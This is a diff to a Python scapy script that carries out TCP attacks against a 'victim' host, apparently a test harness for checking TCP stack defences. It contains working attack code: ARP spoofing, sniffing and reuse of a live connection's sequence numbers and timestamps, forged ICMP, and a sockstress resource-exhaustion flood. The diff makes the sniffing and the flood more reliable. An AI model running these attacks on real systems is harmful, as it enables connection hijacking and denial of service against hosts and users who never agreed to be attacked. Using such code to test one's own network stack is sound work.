@@ -8,6 +8,7 @@ attack is to achieve is for the caller to see; it prints what it saw itself.
 
 import random
 import sys
+import threading
 import time
 
 from scapy.all import (
@@ -33,10 +34,23 @@ ECHO = 7
 WIRE = conf.L2socket(iface=DEV)
 OWN_MAC = get_if_hwaddr(DEV)
 RANDOM = random.Random(16)
+# What is waited for, in seconds at most.
+PATIENCE = 20
 
 
 def send(packet):
     WIRE.send(Ether(src=OWN_MAC, dst=MAC) / packet)
+
+
+def sniff(is_it, then):
+    """Has `then` called with each packet for which `is_it`, from now on."""
+    began = threading.Event()
+    sniffer = AsyncSniffer(
+        iface=DEV, lfilter=is_it, prn=then, store=False, started_callback=began.set
+    )
+    sniffer.start()
+    assert began.wait(PATIENCE), "scapy does not listen"
+    return sniffer
 
 
 def be_there():
@@ -49,8 +63,7 @@ def be_there():
         reply = {"op": 2, "hwsrc": OWN_MAC, "psrc": ATTACKER, "hwdst": MAC, "pdst": US}
         send(ARP(**reply))
 
-    AsyncSniffer(iface=DEV, lfilter=asked, prn=answer, store=False).start()
-    time.sleep(0.3)
+    sniff(asked, answer)
     send(ARP(op=1, hwsrc=OWN_MAC, psrc=ATTACKER, pdst=US))
     time.sleep(0.1)
 
@@ -69,22 +82,32 @@ def listen(**matches):
             return False
         return all(getattr(packet[TCP], key) == value for key, value in matches.items())
 
-    sniffer = AsyncSniffer(iface=DEV, lfilter=is_it, store=True)
-    sniffer.start()
-    # It says nowhere when it has begun.
-    time.sleep(0.3)
+    came = []
+    sniffer = sniff(is_it, lambda packet: came.append(packet[TCP]))
+    sniffer.came = came
     return sniffer
 
 
-def heard(sniffer, wait=0.5):
+def until(sniffer, enough, patience=PATIENCE):
+    """Waits until what has come is enough. Scapy looks at a packet in milliseconds, or longer where
+    others want the CPU too."""
+    end = time.monotonic() + patience
+    while not enough(sniffer.came) and time.monotonic() < end:
+        time.sleep(0.02)
+
+
+def heard(sniffer, wait=0.5, enough=lambda came: True):
+    """What has come after so many seconds, or later where that is not enough."""
     time.sleep(wait)
-    return [packet[TCP] for packet in sniffer.stop()]
+    until(sniffer, enough)
+    sniffer.stop()
+    return sniffer.came
 
 
 def victim(port):
     """Where the victim's connection is: the numbers that it would send next, and the time stamps
     that it would have. Who is really blind has to guess all of it."""
-    seen = heard(listen(dport=port))
+    seen = heard(listen(dport=port), enough=bool)
     assert seen, "the victim's connection is silent"
     last = seen[-1]
     ours, theirs = dict(last.options)["Timestamp"]
@@ -95,9 +118,9 @@ def victim(port):
 
 def open_connection(port, window=65535):
     """A connection of the attacker's own: the numbers that it sends next, and waits for."""
-    sniffer = listen(dport=port)
+    sniffer = listen(dport=port, flags="SA")
     send(segment("S", port, seq=1000, window=window, options=[("MSS", 1460)]))
-    answers = [tcp for tcp in heard(sniffer, 0.2) if tcp.flags == "SA"]
+    answers = heard(sniffer, 0.2, enough=bool)
     assert answers, "no SYN-ACK"
     send(segment("A", port, seq=1001, ack=answers[0].seq + 1, window=window))
     return 1001, answers[0].seq + 1
@@ -225,12 +248,27 @@ def forged_icmp(port):
 def sockstress(_):
     # Connections that ask, and then close their window for good.
     sniffer = listen(flags="SA")
-    for port in range(50000, 50200):
-        send(segment("S", port, seq=1000, window=4096, options=[("MSS", 1460)]))
-    # Others are still answered whom a flood has forged.
-    answers = [tcp for tcp in heard(sniffer, 1) if 50000 <= tcp.dport < 50200]
-    opened = {tcp.dport: tcp.seq + 1 for tcp in answers}
-    assert len(opened) == 200, len(opened)
+    opened = {}
+    # Some at a time, and again as a host would: scapy has room for some hundred packets, and the
+    # half-open connections of a flood answer again.
+    for first in range(50000, 50200, 25):
+        ports = range(first, first + 25)
+
+        # Others are still answered whom a flood has forged.
+        def are_open(came):
+            opened.update({tcp.dport: tcp.seq + 1 for tcp in came if tcp.dport in ports})
+            return all(port in opened for port in ports)
+
+        for _ in range(PATIENCE):
+            if are_open(sniffer.came):
+                break
+            for port in ports:
+                if port not in opened:
+                    options = [("MSS", 1460)]
+                    send(segment("S", port, seq=1000, window=4096, options=options))
+            until(sniffer, are_open, 1)
+        assert are_open(sniffer.came), f"{len(opened)} are answered"
+    sniffer.stop()
     for port, ack in opened.items():
         for at in range(0, 4000, 1000):
             data = b"z" * 1000
